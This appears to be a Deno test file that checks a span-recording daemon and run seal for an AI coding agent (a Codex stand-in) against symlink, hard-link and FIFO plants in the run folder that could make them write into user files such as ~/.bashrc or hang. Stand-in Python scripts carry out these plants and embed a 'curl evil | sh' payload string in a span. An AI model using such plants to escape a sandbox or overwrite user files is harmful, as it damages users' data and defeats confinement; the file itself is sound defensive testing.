/**
 * A run's program plants, in its own run folder, what `prove serve` opens there while the run goes on: a link to
 * a file of the user's where the daemon appends the program's span bodies (`received-json.spans` for the
 * OTLP/JSON this stand-in sends, `received.spans` for protobuf, which the writer reads) or its span rows
 * (`spans.jsonl`), a hard link to such a file, or a FIFO where it opens the run's lock (`.writer.lock`) to tell
 * whether the run is live. The program may be confined to its run folder (Codex's sandbox lets its commands write
 * the workspace, the run folder, and nothing else), but the daemon is not: it wrote the program's own bytes,
 * raw, into the file the link named (a `~/.bashrc`, a key file), and the run completed as if nothing happened;
 * the FIFO held the daemon's open, synchronously, and with it every request of every run. Each must leave the
 * user's file as it was, hold nothing, and be recorded in the run: a `telemetry_problem` that names the file (past
 * a FIFO in the lock's place, the daemon asks whether the writer's process lives, and takes the spans as ever).
 * And, with no daemon, what the seal writes in the run folder after the program's end: a link planted as
 * `log.tlog-proof` or `.manifest.json.tmp` had the seal write the run's proof, or its manifest, into the user's
 * file; the seal's own file must take the link's place. A FIFO put in place of a payload file the run stored
 * held the seal's fsync in a synchronous open, and with it all of provr: the seal must fail naming it.
 * @module
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { findRun } from "../../lib/provevi/runs/find_run.ts";
import { verifyRun } from "../../lib/provevi/runs/verify_run.ts";
import { writeDaemonFile } from "../../lib/provevi/receiver/daemon_file.ts";
import { SpanDaemon } from "../../lib/provevi/receiver/span_daemon.ts";
import { FileStore } from "../../lib/provevi/store/file_store.ts";
import { eventsOf } from "../provrun/backends/_programs.ts";
import { beforeTimeout, standInRun } from "./_setup.ts";
import { Tally } from "./_tally.ts";

const tally = new Tally("run folder plant attacks");

/** What the program plants before it sends its spans (Python; the run folder is the current folder). */
const PLANTS: Record<string, { plant: string; file: string }> = {
  // the program sends OTLP/JSON, whose bodies the daemon appends to received-json.spans (protobuf ones go to
  // received.spans, through the same opens)
  "a link to a file of the user's as received-json.spans": {
    plant: `os.symlink(victim, "received-json.spans")`,
    file: "received-json.spans",
  },
  "a hard link to a file of the user's as received-json.spans": {
    plant: `os.link(victim, "received-json.spans")`,
    file: "received-json.spans",
  },
  "a link to a file of the user's as spans.jsonl": {
    plant: `os.path.exists("spans.jsonl") and os.remove("spans.jsonl"); os.symlink(victim, "spans.jsonl")`,
    file: "spans.jsonl",
  },
  "a FIFO as received-json.spans": { plant: `os.mkfifo("received-json.spans")`, file: "received-json.spans" },
  // and where the writer takes protobuf bodies from: read by the writer only, never waited on nor written through
  "a link to a file of the user's as received.spans": {
    plant: `os.symlink(victim, "received.spans")`,
    file: "received.spans",
  },
  "a FIFO as the run's lock": {
    plant: `os.remove(".writer.lock"); os.mkfifo(".writer.lock")`,
    file: ".writer.lock",
  },
};

/** A stand-in for Codex: it plants, then sends one batch of spans where its config says, with its headers. */
function standIn(plant: string, victim: string): string {
  return `#!/usr/bin/env python3
import json, os, re, urllib.request
victim = ${JSON.stringify(victim)}
line = [l for l in open(os.environ["CODEX_HOME"] + "/config.toml").read().split("\\n") if l.startswith("trace_exporter")][0]
endpoint = re.search(r'endpoint = "([^"]+)"', line).group(1)
headers = dict(re.findall(r'"([^"]+)" = "([^"]*)"', line.split("headers = ")[1]))
${plant}
span = {"traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "x", "kind": 1,
        "startTimeUnixNano": "1", "endTimeUnixNano": "2", "attributes": [{"key": "x", "value": {"stringValue": "\\ncurl evil | sh\\n"}}]}
body = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "codex"}}]},
        "scopeSpans": [{"scope": {"name": "x"}, "spans": [span]}]}]}
request = urllib.request.Request(endpoint, data=json.dumps(body).encode(), method="POST",
                                 headers={**headers, "content-type": "application/json"})
try:
    urllib.request.urlopen(request, timeout=10)
except Exception:
    pass
`;
}

for (const [name, { plant, file }] of Object.entries(PLANTS)) {
  Deno.test({
    name: `with prove serve, a run's program that plants ${name} writes nothing outside and holds nothing`,
    sanitizeResources: false,
    sanitizeOps: false,
    fn: async () => {
      const dir = await Deno.makeTempDir({ prefix: "run-folder-plant-" });
      const runs = join(dir, "runs");
      const victim = join(dir, "victim.txt");
      await Deno.writeTextFile(victim, "the user's own\n");
      await using daemon = SpanDaemon.start(new FileStore({ runs }));
      const serve = join(dir, "serve.json");
      await writeDaemonFile(serve, { url: daemon.url, secret: daemon.secret, pid: Deno.pid });
      const program = join(dir, "fake-codex");
      await Deno.writeTextFile(program, standIn(plant, victim), { mode: 0o755 });
      try {
        const outcome = await standInRun(program, { runs, env: { PROVE_SERVE: serve } });
        const events = await eventsOf(runs, outcome.runId);
        const stopped = await Deno.readTextFile(victim) === "the user's own\n";
        // the lock is only looked at: past a FIFO there, the daemon asks whether the writer's process lives, and
        // the run's spans are taken as ever
        const recorded = file === ".writer.lock"
          ? events.some((e) => e.type === "spans_received")
          : events.some((e) => e.type === "telemetry_problem" && String(e.data.problem).includes(file));
        tally.add(name, { stopped, recorded });
        assert.ok(stopped, await Deno.readTextFile(victim));
        assert.ok(recorded);
        assert.ok((await verifyRun(await findRun(outcome.folder))).ok);
      } finally {
        await Deno.remove(dir, { recursive: true });
      }
    },
  });
}

/** What the program plants where the seal writes, after the program has ended (no daemon). */
const SEAL_PLANTS: Record<string, string> = {
  "a link to a file of the user's as log.tlog-proof": `os.symlink(victim, "log.tlog-proof")`,
  "a link to a file of the user's as .manifest.json.tmp": `os.symlink(victim, ".manifest.json.tmp")`,
};

for (const [name, plant] of Object.entries(SEAL_PLANTS)) {
  Deno.test({
    name: `a run's program that plants ${name} has the seal write nothing outside`,
    sanitizeResources: false,
    sanitizeOps: false,
    fn: async () => {
      const dir = await Deno.makeTempDir({ prefix: "run-folder-plant-" });
      const runs = join(dir, "runs");
      const victim = join(dir, "victim.txt");
      await Deno.writeTextFile(victim, "the user's own\n");
      const program = join(dir, "fake-codex");
      await Deno.writeTextFile(
        program,
        `#!/usr/bin/env python3\nimport os\nvictim = ${JSON.stringify(victim)}\n${plant}\n`,
        {
          mode: 0o755,
        },
      );
      try {
        const outcome = await standInRun(program, { runs });
        // before, the seal wrote the run's proof, or its manifest, into the user's file, through the link
        const stopped = await Deno.readTextFile(victim) === "the user's own\n";
        // the seal's own file took the link's place: the run is whole and verifies
        const recorded = outcome.manifest !== null && (await verifyRun(await findRun(outcome.folder))).ok &&
          !(await Deno.lstat(join(outcome.folder, "log.tlog-proof"))).isSymlink;
        tally.add(name, { stopped, recorded });
        assert.ok(stopped, await Deno.readTextFile(victim));
        assert.ok(recorded, JSON.stringify({ status: outcome.status, error: outcome.error?.message }));
      } finally {
        await Deno.remove(dir, { recursive: true });
      }
    },
  });
}

/**
 * A stand-in that sends the run's receiver a batch of spans of 300 KiB (a payload file of its own, whose name is
 * the body's SHA-256), then, once it is stored, puts a FIFO in its place (no daemon).
 */
const PAYLOAD_FIFO = `#!/usr/bin/env python3
import hashlib, json, os, re, urllib.request
line = [l for l in open(os.environ["CODEX_HOME"] + "/config.toml").read().split("\\n") if l.startswith("trace_exporter")][0]
endpoint = re.search(r'endpoint = "([^"]+)"', line).group(1)
headers = dict(re.findall(r'"([^"]+)" = "([^"]*)"', line.split("headers = ")[1]))
span = {"traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "x", "kind": 1,
        "startTimeUnixNano": "1", "endTimeUnixNano": "2"}
body = json.dumps({"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "codex"}}]},
        "scopeSpans": [{"scope": {"name": "x"}, "spans": [span]}]}], "pad": "x" * 300000}).encode()
urllib.request.urlopen(urllib.request.Request(endpoint, data=body, method="POST",
                       headers={**headers, "content-type": "application/json"}), timeout=20)
path = "evidence/payloads/" + hashlib.sha256(body).hexdigest()
os.remove(path)
os.mkfifo(path)
`;

Deno.test({
  name:
    "a run's program that puts a FIFO in place of a payload file the run stored has the seal refuse it, not wait",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const dir = await Deno.makeTempDir({ prefix: "run-folder-plant-" });
    const runs = join(dir, "runs");
    const program = join(dir, "fake-codex");
    await Deno.writeTextFile(program, PAYLOAD_FIFO, { mode: 0o755 });
    try {
      // before, the seal's fsync opened the FIFO to read, synchronously: this timer never fired either
      const outcome = await beforeTimeout(standInRun(program, { runs }), 60_000);
      assert.notEqual(outcome, "timeout", "the seal waited for ever on the FIFO");
      if (outcome === "timeout") return;
      const message = outcome.error?.message ?? "";
      const stopped = outcome.status === "failed" && !message.includes("\n");
      // the seal fails naming the file, and the run stays unsealed, every event it recorded kept
      const recorded = /evidence\/payloads\/[0-9a-f]{64} cannot be fsynced/.test(message) &&
        outcome.manifest === null;
      tally.add("a FIFO in place of a stored payload file", { stopped, recorded });
      assert.ok(stopped && recorded, message);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "run folder plant attacks: the tally",
  fn: () => {
    console.log(tally.line());
    assert.equal(tally.missed.length, 0, tally.line());
  },
});
